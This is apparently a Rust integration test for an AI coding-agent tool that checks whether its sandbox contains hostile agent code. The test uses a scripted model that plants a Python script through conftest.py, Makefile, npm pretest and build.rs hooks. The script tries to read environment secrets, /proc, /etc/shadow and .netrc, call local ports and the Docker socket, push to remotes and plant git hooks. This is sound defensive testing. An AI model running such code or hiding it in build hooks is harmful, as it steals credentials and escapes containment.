//! The policy is advice, the sandbox is the wall: what an allowed test command can reach when it runs the agent's code.
//!
//! A whole run, with the real binary and a scripted model. The agent writes `conftest.py`, a `Makefile`, an npm
//! `pretest` and a `build.rs`, and starts them through commands that the unattended preset allows. Each does the same:
//! reads environments, processes, files and git's configuration, calls the host, writes outside, pushes, leaves traps
//! in git directories. The same run without a sandbox shows that the traps would work.

mod common;

use common::{ModelServer, Reply, Rule, Script, TestRepo, eventually, git, ok, spoken};
use serde_json::json;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

const CANARY: &str = "canary-4f1c9b";

/// Tries everything, writes what it got to `loot-NAME.txt`. `OUTSIDE` and `PORT` are filled in.
const LOOT: &str = r##"
import glob, os, socket, subprocess, sys
name = sys.argv[1]
got = ["ran"]
def attempt(what, action):
    try:
        got.append(f"{what}: {action()}")
    except BaseException as error:
        got.append(f"{what} refused: {type(error).__name__}")
def read(path):
    with open(path, "rb") as file:
        return file.read(65536).decode("utf-8", "replace").replace("\0", " ")
def write(path, text="owned\n"):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, 0o755)
    return "written"
def call(host, port):
    with socket.create_connection((host, port), timeout=1) as stream:
        stream.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return "connected"
def local(path):
    socket.socket(socket.AF_UNIX).connect(path)
    return "connected"
def push(url):
    env = dict(os.environ, HOME=os.path.abspath(".h"), GIT_TERMINAL_PROMPT="0")
    write(".h/.gitconfig", "[safe]\n\tdirectory = *\n[user]\n\tname = x\n\temail = x@x\n")
    subprocess.run("rm -rf .p && git init -q .p && cd .p && git commit -q --allow-empty -m loot"
                   f" && timeout 5 git push -q {url} HEAD:refs/heads/loot-{name}", shell=True, check=True, env=env,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return "pushed"
attempt("environment", lambda: dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    attempt(path, lambda: read(path))
for path in (".git/config", "OUTSIDE/secret", os.path.expanduser("~/.netrc"), "/root/.netrc", "/etc/shadow"):
    attempt(path, lambda: read(path))
for host in ("127.0.0.1", "172.17.0.1", "localhost"):
    attempt(host, lambda: call(host, PORT))
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    attempt(path, lambda: local(path))
for path in ("OUTSIDE/marker-" + name, "/etc/codeforge-marker", "/usr/local/bin/codeforge-marker"):
    attempt("write " + path, lambda: write(path))
attempt("push file", lambda: push("file://OUTSIDE/remote.git"))
attempt("push http", lambda: push("http://127.0.0.1:PORT/x.git"))
trap = "#!/bin/sh\ntouch OUTSIDE/trap-" + name + "\n"
for hook in ("pre-commit", "post-commit", "post-checkout", "post-index-change", "reference-transaction", "pre-applypatch"):
    attempt("hook " + hook, lambda: write(".git/hooks/" + hook, trap))
    attempt("hook " + hook, lambda: write("inner/hooks/" + hook, trap))
config = "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = touch OUTSIDE/trap-" + name + "\n"
attempt("fsmonitor", lambda: write(".git/config", config.replace("bare = true", "bare = false")))
attempt("embedded", lambda: (write("inner/HEAD", "ref: refs/heads/main\n"), write("inner/config", config),
                             write("inner/refs/x"), write("inner/objects/x")))
attempt("link", lambda: os.symlink("OUTSIDE", "way-" + name))
subprocess.run("rm -rf .p .h", shell=True)
write(f"loot-{name}.txt", "\n".join(got) + "\n")
"##;

const WORKFLOW: &str = "
name: mend
policy: headless-safe-sandbox
steps:
  code: { mode: coder, prompt: Mend it, gates: [tests, lint] }
gates:
  tests: { run: \"PYTEST\", on_fail: fail }
  lint: { run: \"true\", on_fail: fail }
deliver: { as: branch, branch: codeforge/mend, title: Mended }
";

/// Python with pytest: Debian's, as `scripts/setup` installs it here and into the image.
const PYTEST: &str = "/usr/bin/python3 -m pytest -q -p no:cacheprovider";

/// How the agent's code is started, and the files that make the allowed command start it.
struct Way {
    name: &'static str,
    command: &'static str,
    files: &'static [(&'static str, &'static str)],
}

const WAYS: [Way; 4] = [
    Way {
        name: "conftest",
        command: PYTEST,
        files: &[
            (
                "conftest.py",
                "import subprocess, sys\nsubprocess.run([\"/usr/bin/python3\", \"loot.py\", \"conftest\"])\n",
            ),
            ("test_it.py", "def test_it():\n    pass\n"),
        ],
    },
    Way { name: "make", command: "make test", files: &[("Makefile", "test:\n\t/usr/bin/python3 loot.py make\n")] },
    Way {
        name: "npm",
        command: "npm test",
        files: &[(
            "package.json",
            r#"{"name":"x","version":"1.0.0","scripts":{"pretest":"/usr/bin/python3 loot.py npm","test":"true"}}"#,
        )],
    },
    Way {
        name: "cargo",
        command: "cargo build --offline",
        files: &[
            ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"),
            ("src/main.rs", "fn main() {}\n"),
            (
                "build.rs",
                "fn main() { std::process::Command::new(\"/usr/bin/python3\").args([\"loot.py\", \"cargo\"]).status().unwrap(); }\n",
            ),
        ],
    },
];

/// What the host has that nobody inside may reach.
struct Outside {
    folder: tempfile::TempDir,
    port: u16,
    calls: Arc<AtomicUsize>,
}

impl Outside {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("secret"), CANARY).unwrap();
        ok(git().args(["init", "-q", "--bare", "remote.git"]).current_dir(folder.path()));
        open_to_all(folder.path());
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let calls = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&calls);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                drop(stream);
                counted.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { folder, port, calls }
    }

    /// What was left outside: files that were not there before, and branches of the remote.
    fn left(&self) -> Vec<String> {
        let files =
            std::fs::read_dir(self.folder.path()).unwrap().map(|it| it.unwrap().file_name().into_string().unwrap());
        let mut left: Vec<String> = files.filter(|name| !["secret", "remote.git"].contains(&name.as_str())).collect();
        let branches = ok(git()
            .args(["-c", "safe.directory=*", "for-each-ref", "--format=%(refname:short)"])
            .current_dir(self.folder.path().join("remote.git")));
        left.extend(branches.lines().map(str::to_owned));
        left.sort();
        left
    }
}

/// Permissions for everybody, all the way down: the sandbox, not the mode of a file, is to keep them out.
fn open_to_all(path: &Path) {
    let folder = path.is_dir();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(if folder { 0o777 } else { 0o666 })).unwrap();
    if folder {
        for entry in std::fs::read_dir(path).unwrap() {
            open_to_all(&entry.unwrap().path());
        }
    }
}

/// The agent: writes the files, starts them, tries the link that they leave, removes what cannot be delivered.
fn script(outside: &Outside, ways: &[&Way]) -> Script {
    let loot =
        LOOT.replace("OUTSIDE", outside.folder.path().to_str().unwrap()).replace("PORT", &outside.port.to_string());
    let mut calls = vec![("write_file", json!({ "path": "loot.py", "content": loot }))];
    for way in ways {
        for (path, content) in way.files {
            calls.push(("write_file", json!({ "path": path, "content": content })));
        }
        calls.push(("shell", json!({ "command": way.command })));
        let through = format!("way-{}/through-{}", way.name, way.name);
        calls.push(("write_file", json!({ "path": through, "content": "owned\n" })));
        calls.push(("shell", json!({ "command": format!("rm way-{}", way.name) })));
    }
    calls.push(("shell", json!({ "command": "git push origin HEAD" })));
    calls.push(("finish", json!({ "summary": "Mended." })));
    let turn = |(turn, (name, arguments))| Rule::when().turn(turn).reply(Reply::call(name, arguments));
    calls.into_iter().enumerate().map(turn).collect()
}

struct Ended {
    loot: Vec<(String, String)>,
    left: Vec<String>,
    calls: usize,
    told: String,
    said: String,
}

async fn raid(sandbox: &str, ways: &[&Way]) -> Ended {
    let outside = Outside::new();
    let repo = TestRepo::with(&[("README.md", "hello\n"), (".gitignore", "target/\n__pycache__/\n")]);
    repo.write(".codeforge/workflows/mend.yml", WORKFLOW.replace("PYTEST", PYTEST));
    repo.write(".codeforge/config.yml", "sandbox: { image: \"codeforge-python:2\" }\n");
    repo.commit("configured");
    repo.git(&["remote", "add", "origin", &format!("https://x:{CANARY}@example.com/x.git")]);
    let server = ModelServer::start(script(&outside, ways)).await;
    let mut command = repo.codeforge(&["run", "mend", "-v", "--sandbox", sandbox]);
    command.env("CODEFORGE_LLM_BASE_URL", server.url()).env("CODEFORGE_MODEL", "scripted");
    command.env("CODEFORGE_LLM_PRICE_INPUT", "1").env("CODEFORGE_LLM_PRICE_OUTPUT", "1");
    for name in ["CODEFORGE_LLM_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "NPM_TOKEN"] {
        command.env(name, format!("{CANARY}-{name}"));
    }
    let output = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
    let said = spoken(&output);
    assert!(output.status.success(), "{said}\n{:#?}", server.unmatched());
    server.finished();
    // People look at their repository afterwards: what was left in it must not start anything then either.
    repo.git(&["status"]);
    repo.git(&["checkout", "-q", "codeforge/mend"]);
    repo.git(&["status"]);
    let loot = ways.iter().map(|way| {
        let file = format!("loot-{}.txt", way.name);
        assert!(repo.has(&file), "{sandbox}: {} did not run\n{said}\n{:#?}", way.name, server.requests().last());
        (way.name.to_owned(), repo.read(&file))
    });
    let loot: Vec<_> = loot.collect();
    let told = server.requests().iter().map(|asked| asked.to_string()).collect();
    // A call that was made is counted by another thread, soon.
    if loot.iter().any(|(_, text)| text.contains(": connected")) {
        eventually("the call", || (outside.calls.load(Ordering::SeqCst) > 0).then_some(())).await;
    }
    Ended { loot, left: outside.left(), calls: outside.calls.load(Ordering::SeqCst), told, said }
}

async fn gets_nothing(sandbox: &str, ways: &[&Way]) {
    let ended = raid(sandbox, ways).await;
    for (name, loot) in &ended.loot {
        assert!(loot.starts_with("ran\n"), "{sandbox}: {name}\n{loot}");
        assert!(!loot.contains(CANARY), "{sandbox}: {name} read a secret\n{loot}");
        for word in [": connected", ": pushed"] {
            assert!(!loot.contains(word), "{sandbox}: {name} got out\n{loot}");
        }
        for path in ["/etc/codeforge-marker", "/usr/local/bin/codeforge-marker"] {
            assert!(loot.contains(&format!("write {path} refused")), "{sandbox}: {name}\n{loot}");
            assert!(!Path::new(path).exists());
        }
    }
    assert_eq!(ended.left, Vec::<String>::new(), "{sandbox}: something was left on the host");
    assert_eq!(ended.calls, 0, "{sandbox}: the host was called");
    assert!(!ended.told.contains(CANARY), "{sandbox}: the model was told a secret");
    assert!(!ended.said.contains(CANARY), "{sandbox}: the log shows a secret\n{}", ended.said);
    assert!(ended.told.contains("git push is for delivery only"), "{sandbox}: the push is denied with its reason");
}

#[tokio::test(flavor = "multi_thread")]
async fn agents_code_under_allowed_commands_gets_nothing_in_the_native_sandbox() {
    gets_nothing("native", &WAYS.iter().collect::<Vec<_>>()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn agents_code_under_allowed_commands_gets_nothing_in_docker() {
    // The image holds Python and make; npm and cargo run where the native driver lends them the host's.
    gets_nothing("docker", &[&WAYS[0], &WAYS[1]]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_sandbox_the_same_code_gets_out() {
    let ended = raid("none", &[&WAYS[0], &WAYS[1]]).await;
    let loot = &ended.loot[1].1;
    for found in ["secret: canary", "127.0.0.1: connected", "push file: pushed"] {
        assert!(loot.contains(found), "`{found}`: this test could not fail\n{loot}");
    }
    assert!(ended.calls > 0);
    for name in ["marker-make", "loot-make"] {
        assert!(ended.left.iter().any(|left| left == name), "{name}: {:?}", ended.left);
    }
    // Even there, git's traps and the link catch no one: the host never uses the agent's git directory.
    for name in ["trap-make", "through-make"] {
        assert!(!ended.left.iter().any(|left| left == name), "{name}: {:?}", ended.left);
    }
}
